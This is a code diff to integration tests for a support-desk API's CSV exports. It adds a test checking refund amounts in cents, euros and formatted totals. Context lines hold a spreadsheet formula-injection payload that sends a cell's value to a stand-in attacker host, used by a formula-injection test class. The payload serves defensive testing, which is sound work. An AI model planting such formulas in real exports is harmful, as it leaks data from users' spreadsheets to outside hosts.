@@ -15,7 +15,7 @@ from supportdesk.api.routes import exports
 from supportdesk.api.routes.exports import neutralised
 from supportdesk.bootstrap import Container
 from supportdesk.infrastructure.db.reads import SqlReadQueries
-from tests.factories import open_case
+from tests.factories import open_case, request_refund
 from tests.integration._loopback import serve_on_loopback
 
 EXPORT = "/api/v1/support-cases/export.csv"
@@ -24,6 +24,25 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"x")'
 
 def _rows(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text)))
+
+
+class TestAmounts:
+    async def test_each_refund_amount_is_in_the_currency_and_in_cents_with_the_unit_named(
+        self, client: httpx.AsyncClient, as_user
+    ) -> None:
+        customer = await as_user("alice")
+        case = await open_case(client, customer)
+        refund = await request_refund(client, customer, case["id"], [("L2", 1)])
+        assert refund.status_code == 201, refund.text
+
+        response = await client.get("/api/v1/refunds/export.csv", headers=await as_user("bob"))
+
+        (row,) = _rows(response.text)
+        cents = refund.json()["total_amount"]
+        assert row["total_amount_cents"] == str(cents)
+        assert row["total"] == f"{cents // 100}.{cents % 100:02d}"
+        assert row["currency"] == "EUR"
+        assert row["settlement"] == row["settlement_amount_cents"] == ""
 
 
 class TestFormulaInjection:
